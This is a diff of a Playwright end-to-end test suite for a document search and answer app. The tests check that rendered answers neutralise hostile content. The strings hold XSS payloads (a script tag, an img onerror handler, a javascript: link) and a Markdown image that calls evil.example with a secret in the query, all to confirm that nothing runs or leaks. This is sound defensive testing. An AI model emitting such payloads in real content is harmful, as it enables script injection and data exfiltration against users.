@@ -27,6 +27,7 @@ INJECTED = (
     "![secret chart](https://evil.example/?q=secret) for details.\n"
 )
 LIGHTHOUSE = "# Lighthouse\n\nThe zebra crossing by the lighthouse is painted every spring by the keeper.\n"
+NOTES = "Field notes\n\nThe zebra herd grazed by the river all afternoon\n"
 INGEST_TIMEOUT = 45.0
 
 
@@ -50,6 +51,7 @@ def zoo(cairn_server: CairnServer) -> tuple[str, int]:  # noqa: F811
     collection = requests.post(f"{base}/api/v1/collections", json={"name": "Zoo"}, timeout=30).json()["id"]
     _upload(base, collection, "rota.txt", INJECTED)
     _upload(base, collection, "lighthouse.md", LIGHTHOUSE)
+    _upload(base, collection, "notes.txt", NOTES)  # plain text (the other two are sniffed as Markdown/HTML)
     return base, collection
 
 
@@ -82,12 +84,9 @@ def test_injected_markdown_renders_safely_and_the_answer_bar_works(zoo, browser_
     page.get_by_role("button", name="Ask", exact=True).click()
     page.locator("#ask-result [data-role='answer-bar']").wait_for(timeout=30_000)
 
-    # Then the Markdown is rendered, the HTML shows as text, nothing ran and nothing was fetched from outside
+    # Then the quotes are shown (ingestion kept the text, not the markup), nothing ran, nothing was fetched
     answer = page.locator("#ask-result .answer__text")
-    assert answer.locator("strong", has_text="posted weekly").count() == 1
-    text = answer.inner_text()
-    assert "<script>" in text and "onerror" in text  # shown as the characters they are made of
-    assert answer.locator(".md-image").inner_text() == "[image: secret chart]"
+    assert "posted weekly" in answer.inner_text() and answer.locator("p").count() >= 3
     assert answer.locator("a.cite-ref").count() >= 1  # [n] markers still open the citations
     _assert_nothing_ran(page)
 
@@ -128,7 +127,8 @@ def test_a_streamed_answer_cut_at_the_limit_is_marked_and_its_markdown_stays_ine
     page = browser_page
     outside = _requests_outside(page, base)
     answer = ("## Summary\n\n- first *point* [1]\n- see [docs](https://example.org/docs)\n\n"
-              "<img src=x onerror=\"window.__xss='stream'\"> ![x](https://evil.example/?q=secret) "
+              "**Rota** <script>window.__xss='raw'</script>\n"
+              "<img src=x onerror=\"window.__xss='stream'\"> ![secret chart](https://evil.example/?q=secret) "
               "[click](javascript:window.__xss='href')\n\n```\n<script>window.__xss='code'</script>\n```\nAnd then")
     citation = {"number": 1, "chunk_id": 1, "document_id": 1, "title": "rota.txt", "page": None, "heading": "",
                 "text": "The zebra rota."}
@@ -153,6 +153,11 @@ def test_a_streamed_answer_cut_at_the_limit_is_marked_and_its_markdown_stays_ine
     assert link.get_attribute("href") == "https://example.org/docs"
     assert set((link.get_attribute("rel") or "").split()) == {"noopener", "noreferrer", "nofollow"}
     assert "window.__xss='code'" in rendered.locator("pre code").inner_text()
+    assert rendered.locator("strong", has_text="Rota").count() == 1
+    text = rendered.inner_text()
+    assert "<script>window.__xss='raw'</script>" in text and "onerror" in text  # shown as the characters they are
+    assert rendered.locator(".md-image").inner_text() == "[image: secret chart]"
+    assert rendered.locator("a.cite-ref").count() == 1
     _assert_nothing_ran(page)
     assert outside == [], outside
     assert not page.script_errors, page.script_errors
@@ -167,12 +172,12 @@ def test_search_filters_live_in_the_url_and_back_and_reload_restore_them(zoo, br
         page.locator("#search-results .results, #search-results .empty").first.wait_for(timeout=30_000)
         return page.locator("#search-results .result__title").all_inner_texts()
 
-    # An unfiltered search finds both documents, one group each
+    # An unfiltered search finds all three documents, one group each
     page.get_by_label("Search this collection").fill("zebra")
     page.get_by_role("button", name="Search", exact=True).click()
     page.wait_for_url(re.compile(r"q=zebra"))
-    assert sorted(titles()) == ["lighthouse.md", "rota.txt"]
-    assert page.locator("#search-results .result[data-document-id] .result__passage").count() >= 2
+    assert sorted(titles()) == ["lighthouse.md", "notes.txt", "rota.txt"]
+    assert page.locator("#search-results .result[data-document-id] .result__passage").count() >= 3
 
     # Filtering by file type narrows it, and the filter goes into the URL
     page.locator("#search-filters summary").click()
@@ -182,20 +187,20 @@ def test_search_filters_live_in_the_url_and_back_and_reload_restore_them(zoo, br
     page.wait_for_url(re.compile(r"kind=text"))
     assert "mode=lexical" in page.url
     page.wait_for_function("() => document.querySelectorAll('#search-results .result').length === 1")
-    assert titles() == ["rota.txt"]
+    assert titles() == ["notes.txt"]
 
     # A reload restores the filters and the filtered results
     page.reload()
     page.wait_for_function("() => document.querySelectorAll('#search-results .result').length === 1")
     assert page.get_by_label("File type").input_value() == "text"
     assert page.get_by_label("Mode").input_value() == "lexical"
-    assert titles() == ["rota.txt"]
+    assert titles() == ["notes.txt"]
 
     # Back returns to the unfiltered search, its form and results
     page.go_back()
-    page.wait_for_function("() => document.querySelectorAll('#search-results .result').length === 2")
+    page.wait_for_function("() => document.querySelectorAll('#search-results .result').length === 3")
     assert "kind=" not in page.url and page.get_by_label("File type").input_value() == ""
-    assert sorted(titles()) == ["lighthouse.md", "rota.txt"]
+    assert sorted(titles()) == ["lighthouse.md", "notes.txt", "rota.txt"]
 
     # A malformed attribute filter is explained, not sent
     page.get_by_label("Document attributes").fill("no equals sign")
